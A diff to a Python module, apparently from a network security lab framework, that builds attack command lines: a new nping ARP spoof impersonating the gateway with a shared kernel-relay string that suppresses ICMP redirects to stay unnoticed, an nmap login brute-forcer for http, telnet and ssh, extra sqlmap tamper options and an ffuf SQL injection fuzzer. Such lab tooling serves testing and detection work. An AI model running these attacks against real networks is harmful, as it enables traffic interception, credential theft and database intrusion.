@@ -6,6 +6,12 @@ from wirespeak.lab.attacks.guess import words as guesses
 from wirespeak.lab.attacks.tool import Strike, own, tool
 
 
+_SETTINGS = "/proc/sys/net/ipv4"
+_RELAY = (
+    f"echo 1 >{_SETTINGS}/ip_forward; for i in all eth0; do echo 0 >{_SETTINGS}/conf/$i/send_redirects; done"
+)
+
+
 @tool("spoof.arp", reach="mac")
 def own_arp_spoof(
     s: Strike, *, interval: float = 1.0, both: bool = True, request: bool = False, gratuitous: bool = False
@@ -29,12 +35,10 @@ def own_arp_spoof(
 @tool("spoof.arp", package="dsniff", reach="mac")
 def arpspoof(s: Strike, *, both: bool = True) -> list[str]:
     """dsniff's arpspoof, with the kernel as relay, which is told not to give the game away by redirects."""
-    settings = "/proc/sys/net/ipv4"
-    quiet = f"echo 1 >{settings}/ip_forward; for i in all eth0; do echo 0 >{settings}/conf/$i/send_redirects; done"
     return [
         "sh",
         "-c",
-        f"{quiet}; exec timeout -s INT {int(s.seconds)} arpspoof -i eth0 -t {s.address} {'-r ' if both else ''}{s.world.host('gateway').address} 2>/dev/null",
+        f"{_RELAY}; exec timeout -s INT {int(s.seconds)} arpspoof -i eth0 -t {s.address} {'-r ' if both else ''}{s.world.host('gateway').address} 2>/dev/null",
     ]
 
 
@@ -59,6 +63,20 @@ def ettercap(s: Strike, *, one_way: bool = False) -> list[str]:
         "-M",
         "arp:oneway" if one_way else "arp:remote",
         *(f"/{host.address}//" for host in ends),
+    ]
+
+
+@tool("spoof.arp", package="nmap", reach="mac")
+def nping_arp(s: Strike, *, rate: float = 1.0) -> list[str]:
+    """nping's ARP replies in the gateway's name to the target, with the kernel as relay."""
+    gateway = s.world.host("gateway")
+    lie = f"--arp-type ARP-reply --arp-sender-ip {gateway.address} --arp-sender-mac {s.attacker.mac}"
+    ends = f"--arp-target-ip {s.address} --arp-target-mac {s.target.mac} --dest-mac {s.target.mac}"
+    count = max(1, int(s.seconds * rate))
+    return [
+        "sh",
+        "-c",
+        f"{_RELAY}; exec nping --arp {lie} {ends} --rate {rate:g} --delay {1000 / rate:g}ms -c {count} -q -N {s.address}",
     ]
 
 
@@ -157,6 +175,17 @@ def ncrack(s: Strike, *, service: str = "http", words: int = 120, connections: i
     return ["ncrack", "--user", "admin", "-P", listed, "-g", f"CL={connections},to={int(s.seconds)}s", target]
 
 
+@tool("brute_force", package="nmap")
+def nmap_brute(s: Strike, *, service: str = "http", words: int = 150, threads: int = 4) -> list[str]:
+    """nmap's scripts for basic authentication, or with service "telnet" or "ssh" for a prompt."""
+    listed = s.list_file("words", guesses(s.random, min(words, 600)))
+    users = s.list_file("users", ["admin"])
+    port, more = {"http": ("80", ",http-brute.path=/admin"), "telnet": ("23", ""), "ssh": ("22", "")}[service]
+    given = f"userdb={users},passdb={listed},brute.threads={threads},brute.start={threads}{more}"
+    script = ["--script", f"{service}-brute", "--script-args", given]
+    return ["nmap", "-n", "-Pn", "-sT", f"-p{port}", *script, s.address]
+
+
 @tool("brute_force", package="mosquitto-clients")
 def mosquitto_sub_guess(s: Strike, *, words: int = 200, pause: float = 0.05) -> list[str]:
     """A loop of mosquitto_sub over a word list."""
@@ -195,8 +224,10 @@ def own_sqli(
 
 
 @tool("web.sqli", package="sqlmap")
-def sqlmap(s: Strike, *, level: int = 1, post: bool = False) -> list[str]:
-    """sqlmap on the item page."""
+def sqlmap(
+    s: Strike, *, level: int = 1, post: bool = False, technique: str = "BEU", tamper: str = ""
+) -> list[str]:
+    """sqlmap on the item page. technique, tamper: as sqlmap names them."""
     where = (
         ["-u", f"http://{s.address}/item", "--data", "id=1"]
         if post
@@ -209,7 +240,8 @@ def sqlmap(s: Strike, *, level: int = 1, post: bool = False) -> list[str]:
         f"--level={level}",
         "--risk=1",
         "--threads=1",
-        "--technique=BEU",
+        f"--technique={technique}",
+        *([f"--tamper={tamper}"] if tamper else []),
         "--flush-session",
         "--disable-coloring",
         f"--output-dir={s.world.folder}/sqlmap",
@@ -264,3 +296,21 @@ def wfuzz_sqli(s: Strike, *, pause: float = 0.2, clients: int = 2, post: bool = 
 def wfuzz_xss(s: Strike, *, pause: float = 0.2, clients: int = 2, post: bool = False) -> list[str]:
     """wfuzz with its list of script injections."""
     return _wfuzz(s, "XSS.txt", pause=pause, clients=clients, post=post)
+
+
+@tool("web.sqli", package="ffuf")
+def ffuf_sqli(s: Strike, *, rate: float = 5.0) -> list[str]:
+    """ffuf with a list of SQL injections that wfuzz brings."""
+    listed = "/usr/share/wfuzz/wordlist/vulns/sql_inj.txt"
+    return [
+        "ffuf",
+        "-s",
+        "-w",
+        listed,
+        "-p",
+        f"{2 / rate:g}",
+        "-t",
+        "2",
+        "-u",
+        f"http://{s.address}/item?id=FUZZ",
+    ]
